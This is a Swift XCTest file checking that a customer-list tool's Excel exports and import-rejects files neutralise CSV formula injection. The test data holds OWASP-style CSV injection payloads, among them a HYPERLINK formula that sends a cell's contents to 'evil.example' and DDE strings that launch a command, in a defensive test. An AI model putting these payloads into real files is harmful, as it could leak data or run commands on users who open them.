import Foundation
import LiuliangTestSupport
import XCTest

/// Files that people open in Excel or WPS hold no cell that would run as a formula; files for
/// programs stay exact.
final class SpreadsheetTests: XCTestCase {
  /// OWASP's examples of CSV injection, and the tab and carriage return that hide them.
  static let formulas = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
  ]

  func storeWithFormulaNames() throws -> URL {
    let store = try Repo.tempFolder()
    var csv =
      "id,name,wechat,phone,tags,source,joined,tier,birthday,churned_on,churn_reason,notes,welcomed_on\n"
    for (i, n) in Self.formulas.enumerated() {
      let quoted = "\"" + n.replacingOccurrences(of: "\"", with: "\"\"") + "\""
      csv += "C\(i + 1),\(quoted),w\(i),,,,2026-11-01,friend,,,,\(quoted),\n"
    }
    csv += "C9,王芳,w9,,,,2026-11-01,friend,,,,普通,\n"
    try Data(csv.utf8).write(to: store.appendingPathComponent("customers.csv"))
    return store
  }

  func testExcelExportDefusesFormulasAndPlainExportStaysExact() throws {
    let store = try storeWithFormulaNames()
    let dir = store.deletingLastPathComponent()
    let excel = dir.appendingPathComponent("excel.csv")
    let plain = dir.appendingPathComponent("plain.csv")
    XCTAssertEqual(
      try runLiuliang(["export", "--data", store.path, "--excel", "--output", excel.path]).status, 0)
    XCTAssertEqual(try runLiuliang(["export", "--data", store.path, "--output", plain.path]).status, 0)
    guard let e = try pythonCSV(excel), let p = try pythonCSV(plain) else { throw XCTSkip("no python3") }
    let name = e[0].firstIndex(of: "name")!
    let notes = e[0].firstIndex(of: "notes")!
    XCTAssertEqual(e.dropFirst().map { $0[name] }, Self.formulas.map { "'" + $0 } + ["王芳"])
    XCTAssertEqual(e.dropFirst().map { $0[notes] }, Self.formulas.map { "'" + $0 } + ["普通"])
    XCTAssertEqual(p.dropFirst().map { $0[name] }, Self.formulas + ["王芳"], "for programs: exact")
  }

  func testRejectsFileDefusesFormulas() throws {
    let dir = try Repo.tempFolder("in")
    let input = dir.appendingPathComponent("list.csv")
    // No name, WeChat id or phone: each row is rejected with its cells as given.
    var csv = "name,wechat,phone,=cmd|' /C calc'!A0\n"
    for f in Self.formulas { csv += ",,,\"" + f.replacingOccurrences(of: "\"", with: "\"\"") + "\"\n" }
    try Data(csv.utf8).write(to: input)
    let r = try runLiuliang(["import", input.path, "--data", try Repo.newStore(in: dir).path])
    XCTAssertEqual(r.status, 0, r.stderr)
    guard let rows = try pythonCSV(dir.appendingPathComponent("list.rejects.csv")) else {
      throw XCTSkip("no python3")
    }
    XCTAssertEqual(rows[0][3], "'=cmd|' /C calc'!A0", "the header too")
    XCTAssertEqual(rows.dropFirst().map { $0[3] }, Self.formulas.map { "'" + $0 })
  }
}
